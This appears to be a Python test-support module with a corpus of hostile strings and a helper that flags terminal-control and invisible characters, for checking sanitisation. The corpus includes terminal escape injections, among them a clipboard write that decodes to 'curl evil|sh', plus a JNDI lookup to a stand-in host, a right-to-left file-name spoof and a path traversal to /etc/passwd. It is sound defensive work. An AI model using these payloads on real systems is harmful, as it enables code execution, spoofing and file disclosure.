"""Text as an attacker, a broken encoder or a chatty program would send it, and what must never be left of it."""

from __future__ import annotations

import unicodedata
from typing import Any

import msgspec

ESC = "\x1b"
CORPUS = (
    f"{ESC}[31mred{ESC}[0m",
    f"{ESC}[2J{ESC}[H wiped",
    f"{ESC}[?1049h{ESC}[?25l hidden cursor",
    f"{ESC}]0;new title\x07",
    f"{ESC}]52;c;Y3VybCBldmlsfHNo{ESC}\\ clipboard",
    f"{ESC}]8;;http://evil.example{ESC}\\link{ESC}]8;;{ESC}\\",
    f"{ESC}]0;never ends, and hides what follows",
    f"{ESC}P+q544e{ESC}\\ dcs",
    f"{ESC}_apc{ESC}\\{ESC}^pm{ESC}\\{ESC}Xsos{ESC}\\",
    f"{ESC}c reset",
    f"{ESC}(0lqqk{ESC}(B",
    f"{ESC}",
    f"{ESC}{ESC}[31m",
    f"{ESC}[31",
    "\x9b31m eight bit",
    "\x9d0;title\x9c eight bit",
    "\x90dcs\x9c",
    "\x9d cut off",
    "\x00nul\x07bell\x08back\x7fdel",
    "line\nbreak\r\nand\rreturn\ttab\vvt\fff",
    "\x85nel\u2028ls\u2029ps\u00a0nbsp\u3000wide",
    "user\u202egnp.exe",
    "\u2066isolate\u2069\u200ertl\u200f\u061c",
    "zero\u200bwidth\u200cjoin\u200d\ufeffbom\u2060",
    "soft\u00adhyphen",
    "z" + "\u0301" * 60 + "algo",
    "tags\U000e0041\U000e0042",
    "variation\ufe0f\U000e0100",
    "fillers\u3164\u115f\uffa0",
    "surrogate\ud800\udfff",
    "nonchar\ufffe\uffff\ufdd0\U0001fffe",
    "interlinear\ufff9a\ufffab\ufffb",
    "[bold red]markup[/] [link=http://evil.example]x[/link]",
    "[@click=app.quit]press me[/]",
    "{{ template }} %s %n ${jndi:ldap://evil}",
    "A" * 5000,
    "../../../../etc/passwd",
    "",
    " ",
)
"""One of each kind."""
MEAN = "".join(text for text in CORPUS if len(text) < 200)
"""All of it in one string."""
_VISIBLE_FORMATS = frozenset("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd")
"""Arabic, Syriac and Kaithi signs that are drawn, though Unicode counts them as formats."""


def offences(text: str) -> list[str]:
    """The characters of `text` that may act on a terminal or cannot be seen."""
    return [char for char in text if _offends(char)]


def _offends(char: str) -> bool:
    category = unicodedata.category(char)
    if category == "Cf":
        return char not in _VISIBLE_FORMATS
    odd_space = category in ("Zl", "Zp") or (category == "Zs" and char != " ")
    return category in ("Cc", "Cs") or odd_space or ord(char) & 0xFFFE == 0xFFFE


def strings(value: Any) -> list[str]:
    """Every string in a value of rows, dicts, tuples and lists, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, msgspec.Struct):
        return [text for name in value.__struct_fields__ for text in strings(getattr(value, name))]
    if isinstance(value, dict):
        return [text for pair in value.items() for part in pair for text in strings(part)]
    if isinstance(value, list | tuple | set | frozenset):
        return [text for item in value for text in strings(item)]
    return []
